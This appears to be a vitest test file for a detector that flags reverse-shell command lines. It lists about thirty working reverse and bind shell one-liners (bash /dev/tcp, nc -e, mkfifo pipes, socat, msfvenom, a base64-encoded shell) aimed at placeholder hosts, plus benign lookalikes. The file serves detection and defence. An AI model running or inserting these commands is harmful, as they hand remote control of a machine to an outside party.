// A shell joined to a connection is found by its shape: the tool, the host, the port and the quoting do not matter.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  'bash -i >& /dev/tcp/10.9.8.7/9001 0>&1',
  "bash -c 'sh -i >& /dev/udp/c2.example.org/53 0>&1'",
  "bash -c '0<&196;exec 196<>/dev/tcp/10.9.8.7/4242; sh <&196 >&196 2>&196'",
  "bash -c 'exec 5<>/dev/tcp/10.9.8.7/443;cat <&5 | while read line; do $line 2>&5 >&5; done'",
  'sh -c sh -i 5<> /dev/tcp/10.9.8.7/4444 0<&5 1>&5 2>&5',
  'nc -e /bin/bash 10.9.8.7 4444',
  'nc 10.9.8.7 4444 -e sh',
  'ncat --ssl -c bash c2.example.org 443',
  'ncat --exec /bin/bash -l 8888',
  'busybox nc 10.9.8.7 4444 -e ash',
  'rm /tmp/p;mkfifo /tmp/p;cat /tmp/p|sh -i 2>&1|nc 10.9.8.7 4444 >/tmp/p',
  'mknod /var/tmp/q p && sh 0</var/tmp/q | ncat -u 10.9.8.7 53 1>/var/tmp/q',
  'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.9.8.7:443 > /tmp/s; rm /tmp/s',
  'TF=$(mktemp -u);mkfifo $TF && telnet 10.9.8.7 8080 0<$TF | sh 1>$TF',
  "C='curl -Ns telnet://10.9.8.7:4444'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null",
  'socat TCP:10.9.8.7:4444 EXEC:sh',
  "socat TCP:10.9.8.7:4444 EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
  'socat openssl-connect:10.9.8.7:443,verify=0 system:bash,pty',
  'socat TCP-LISTEN:7777,reuseaddr,fork EXEC:/bin/sh',
  'rcat connect -s bash 10.9.8.7 4444',
  "zsh -c 'zmodload zsh/net/tcp && ztcp 10.9.8.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
  "sqlite3 /dev/null '.shell rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.9.8.7 4444 >/tmp/f'",
  'rlwrap -cAr nc -lvnp 4444',
  'nc -lvnp 9001',
  'pwncat-cs -lp 9001',
  'xterm -display 10.9.8.7:1',
  'msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.9.8.7 LPORT=4444 -f elf -o x',
  'setsid bash -c "bash -i >& /dev/tcp/10.9.8.7/9001 0>&1" &',
  'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC45LjguNy85MDAxIDA+JjEK | base64 -d | bash',
  'b\'\'ash -i >& /de"v/t"cp/10.9.8.7/9001 0>&1',
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true, category: 'reverse_shells' });
});

test.each([
  'nc -z -w 2 db 5432',
  'nc -l 8080',
  'nc db.example.org 25',
  'bash -c "</dev/tcp/db/5432"',
  'timeout 1 bash -c "echo > /dev/tcp/127.0.0.1/80" && echo up',
  'bash -i',
  'bash -c "exec 3<>/dev/tcp/127.0.0.1/80; echo GET / >&3; cat <&3"',
  'mkfifo /run/app/queue',
  'socat - UNIX-CONNECT:/run/haproxy.sock',
  'socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80',
  'curl -fsSL https://example.org/install.sh | sh',
  'ssh web1 uptime',
  'openssl s_client -connect example.org:443 -servername example.org',
  'echo QUIT | telnet mail 25',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).tier).not.toBe('critical');
  expect(judgeLine(line).threat).toBe(false);
});
